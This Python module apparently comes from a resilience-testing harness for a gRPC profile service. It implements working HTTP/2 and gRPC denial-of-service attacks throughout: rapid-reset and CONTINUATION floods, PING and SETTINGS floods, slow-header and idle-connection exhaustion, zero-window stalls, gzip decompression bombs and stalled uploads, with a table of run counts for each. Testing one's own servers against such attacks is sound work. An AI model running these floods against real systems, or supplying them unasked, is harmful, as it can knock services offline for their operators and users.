"""Ways to abuse HTTP/2 and gRPC. Each takes the server and how often, and returns what the server said."""

import random
import select
import struct
import time
import zlib
from collections import Counter
from dataclasses import dataclass, field

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from http2 import PREFACE, Connection, headers, message
from wire import profile

CANCEL = 8

# What is sent at once before looking whether the server has hung up.
BATCH = 100
# Streams of one connection: the least that RFC 9113, section 6.5.2, recommends to allow.
STREAMS = 100
# How often those who are slow on purpose move.
TICK_SECONDS = 0.25
# How long the server may say nothing before it is taken not to answer.
ANSWER_SECONDS = 2.0

PROFILE = "/workcenter.v1.ProfileService"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"


@dataclass
class Server:
    address: tuple
    token: str
    # How long those who hold something do so, in seconds.
    hold: float


@dataclass
class Told:
    """What came of an attack."""

    sent: int = 0
    connections: int = 0
    said: Counter = field(default_factory=Counter)

    def of(self, connection, kind=""):
        """Adds what was said on a connection that is done with, one of some kind if there are several."""
        connection.close()
        self.connections += 1
        self.said.update({f"{kind} {word}".strip(): times for word, times in connection.said.items()})
        return self


def opened(told, server, **options):
    """A new connection, or None if the server does not take it."""
    try:
        return Connection(server.address, **options)
    except OSError as error:
        told.said[f"connect: {type(error).__name__}"] += 1
        return None


def flood(server, count, begin, batch, listens=True):
    """Sends `count` of what `batch` makes, so many at once, on as many connections as that takes.

    `begin` is done first on each. Who does not listen hears the server's words only when all is sent.
    """
    told = Told()
    while told.sent < count:
        connection = opened(told, server, receive_bytes=None if listens else 4096)
        if connection is None:
            break
        state = begin(connection)
        while told.sent < count and connection.send(batch(connection, state, BATCH)):
            told.sent += BATCH
            if listens:
                connection.hear()
        if connection.ended:
            # The batch that was cut short.
            told.sent += BATCH
        connection.hear(0.2)
        stalled = connection.ended == "stalled"
        told.of(connection)
        if stalled:
            break
    return told


def resets(server, count):
    """Calls that are taken back at once."""
    block = headers(f"{PROFILE}/GetProfile", server.token)

    def batch(connection, _, size):
        frames = b""
        for _ in range(size):
            stream = connection.stream()
            frames += HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()
            frames += RstStreamFrame(stream, CANCEL).serialize()
        return frames

    return flood(server, count, lambda connection: None, batch)


def continuations(server, count):
    """Headers that never end, in CONTINUATION frames with nothing in them."""
    block = headers(f"{PROFILE}/GetProfile", server.token)

    def begin(connection):
        stream = connection.stream()
        connection.send(HeadersFrame(stream, block).serialize())
        return ContinuationFrame(stream, b"").serialize()

    return flood(server, count, begin, lambda _, frame, size: frame * size)


def pings(server, count):
    """PINGs by somebody who does not read the answers."""
    frame = PingFrame(0, b"whoknows").serialize()
    return flood(server, count, lambda _: None, lambda _, __, size: frame * size, listens=False)


def settings(server, count):
    """SETTINGS by somebody who does not read the answers."""
    frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 70_000}).serialize()
    return flood(server, count, lambda _: None, lambda _, __, size: frame * size, listens=False)


def endless_data(server, count, data):
    block = headers(f"{PROFILE}/UploadPicture", server.token)
    return flood(
        server,
        count,
        lambda connection: DataFrame(connection.call(block), data).serialize(),
        lambda _, frame, size: frame * size,
    )


def empty_data(server, count):
    """An upload in DATA frames with nothing in them."""
    return endless_data(server, count, b"")


def tiny_data(server, count):
    """An upload in DATA frames of one byte, with no regard to windows."""
    return endless_data(server, count, b"\0")


def held(told, server, connections, move=lambda connection: None):
    """Keeps connections, each with the name of its kind, until the server has ended all or the time is over.

    `move` is made with each, every tick.
    """
    began = time.monotonic()
    poll = select.poll()
    alive = {}
    for name, connection in connections:
        alive[connection.socket.fileno()] = name, connection
        poll.register(connection.socket, select.POLLIN)
    while alive and time.monotonic() - began < server.hold:
        tick = time.monotonic() + TICK_SECONDS
        while 0 < (left := tick - time.monotonic()):
            for number, _ in poll.poll(1000 * left):
                name, connection = alive[number]
                connection.hear()
                if connection.ended:
                    poll.unregister(number)
                    del alive[number]
                    told.of(connection, name)
            if not alive:
                return told
        for _, connection in alive.values():
            move(connection)
    for name, connection in alive.values():
        told.of(connection, name)
    return told


def idle(server, count):
    """Connections that say nothing, or no more than hello; half of them each."""
    told = Told()
    connections = []
    for number in range(count):
        greet = number % 2 == 1
        connection = opened(told, server, greet=greet)
        if connection:
            connections.append(("greeted" if greet else "silent", connection))
            told.sent += 1
    return held(told, server, connections)


def slow_headers(server, count):
    """Headers that come byte by byte: half of them as CONTINUATION frames, half within one frame."""
    told = Told()
    block = headers(f"{PROFILE}/GetProfile", server.token)
    connections = []
    left = {}
    for number in range(count):
        connection = opened(told, server)
        if not connection:
            continue
        stream = connection.stream()
        if number % 2:
            connection.send(HeadersFrame(stream, block[:1]).serialize())
            pieces = [ContinuationFrame(stream, block[at : at + 1]).serialize() for at in range(1, len(block))]
            connections.append(("continued", connection))
        else:
            frame = HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()
            pieces = [frame[at : at + 1] for at in range(len(frame))]
            connections.append(("whole", connection))
        left[connection] = iter(pieces)
        told.sent += 1
    return held(told, server, connections, lambda connection: connection.send(next(left[connection], b"")))


def large_headers(server, count):
    """A mebibyte of headers."""
    told = Told()
    fields = [NeverIndexedHeaderTuple(f"x-{number:03}", "a" * 16_000) for number in range(64)]
    blocks = [headers(f"{PROFILE}/GetProfile", server.token), *(Encoder().encode([it]) for it in fields)]
    for _ in range(count):
        connection = opened(told, server)
        if not connection:
            continue
        stream = connection.stream()
        frames = [HeadersFrame(stream, blocks[0])]
        frames += [ContinuationFrame(stream, block) for block in blocks[1:]]
        frames[-1].flags.add("END_HEADERS")
        for frame in frames:
            if not connection.send(frame.serialize()):
                break
        until_answered(connection, [stream])
        told.sent += 1
        told.of(connection)
    return told


def until_answered(connection, streams):
    """Listens until all of `streams` are answered, or nothing has come for a while."""
    connection.hear(ANSWER_SECONDS, lambda: connection.answered.issuperset(streams))
    if connection.ended is None and (left := set(streams) - connection.answered):
        connection.said["no answer"] += len(left)


def tiny_window(server, count):
    """Calls by somebody who takes nothing of the answers, and later a byte at a time."""
    told = Told()
    picture = profile.GetPictureRequest(user_id="me", size_px=512).SerializeToString()
    # The field `file_containing_symbol` of a request to reflection.
    symbol = b"workcenter.v1.ProfileService"
    calls = [(REFLECTION, bytes([34, len(symbol)]) + symbol)]
    if server.token:
        calls.append((f"{PROFILE}/GetPicture", picture))
    connections = []
    streams = {}
    while told.sent < count:
        connection = opened(told, server, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        if not connection:
            break
        streams[connection] = []
        for number in range(min(STREAMS, count - told.sent)):
            path, request = calls[number % len(calls)]
            stream = connection.call(headers(path, server.token))
            connection.data(stream, message(request), end=True)
            streams[connection].append(stream)
            told.sent += 1
        connections.append(("", connection))
    half = time.monotonic() + server.hold / 2

    def move(connection):
        if half < time.monotonic():
            grants = (WindowUpdateFrame(stream, 1).serialize() for stream in streams[connection])
            connection.send(b"".join(grants))

    return held(told, server, connections, move)


def bomb(server, count, unpacked):
    """Messages that are small until they are unpacked."""
    told = Told()
    packer = zlib.compressobj(9, wbits=31)
    zeros = bytes(1 << 20)
    packed = b"".join(packer.compress(zeros) for _ in range(unpacked >> 20)) + packer.flush()
    block = headers(f"{PROFILE}/UpdateProfile", server.token, grpc_encoding="gzip")
    while told.sent < count:
        connection = opened(told, server)
        if not connection:
            break
        streams = []
        # As many at a time as a client of a library would have.
        for _ in range(min(10, count - told.sent)):
            stream = connection.call(block)
            connection.data(stream, message(packed, compressed=True), end=True)
            streams.append(stream)
            told.sent += 1
        until_answered(connection, streams)
        told.of(connection)
    return told


def gzip_small(server, count):
    """A kilobyte that unpacks to a mebibyte."""
    return bomb(server, count, 1 << 20)


def gzip_large(server, count):
    """As much as a request may have that unpacks to two hundred mebibytes."""
    return bomb(server, count, 200 << 20)


def uploads(server, count):
    """Uploads that announce ten mebibytes, send one and fall silent."""
    told = Told()
    metadata = profile.PictureMetadata(content_type="image/jpeg", size_bytes=10 << 20, sha256=bytes(32))
    chunk = profile.UploadPictureRequest(chunk=bytes(64 << 10)).SerializeToString()
    sent = message(profile.UploadPictureRequest(metadata=metadata).SerializeToString()) + 16 * message(chunk)
    connections = []
    block = headers(f"{PROFILE}/UploadPicture", server.token)
    for _ in range(count):
        connection = opened(told, server)
        if not connection:
            break
        connection.data(connection.call(block), sent)
        connections.append(("", connection))
        told.sent += 1
    return held(told, server, connections)


def garbage(server, count):
    """What is not HTTP/2, or not for long."""
    told = Told()
    dice = random.Random(1)
    beginnings = [
        b"GET / HTTP/1.1\r\nhost: peer\r\n\r\n",
        # The beginning of TLS.
        bytes.fromhex("16030100f1010000ed0303"),
        PREFACE,
        PREFACE + SettingsFrame(0).serialize(),
        PREFACE + SettingsFrame(0).serialize() + struct.pack(">I", 100)[1:] + b"\x01\x05\x00\x00\x00\x01",
    ]
    for number in range(count):
        connection = opened(told, server, greet=False)
        if not connection:
            break
        beginning = beginnings[number % len(beginnings)]
        connection.send(beginning + dice.randbytes(dice.randrange(20_000)))
        connection.hear(0.05)
        told.sent += 1
        told.of(connection)
    return told


# What there is, and how often each is done unless told otherwise: a taste of it, in seconds.
ATTACKS = {
    resets: 2_000,
    idle: 200,
    slow_headers: 20,
    large_headers: 20,
    continuations: 10_000,
    pings: 10_000,
    settings: 10_000,
    empty_data: 10_000,
    tiny_data: 10_000,
    tiny_window: 200,
    gzip_small: 50,
    gzip_large: 10,
    uploads: 20,
    garbage: 50,
}
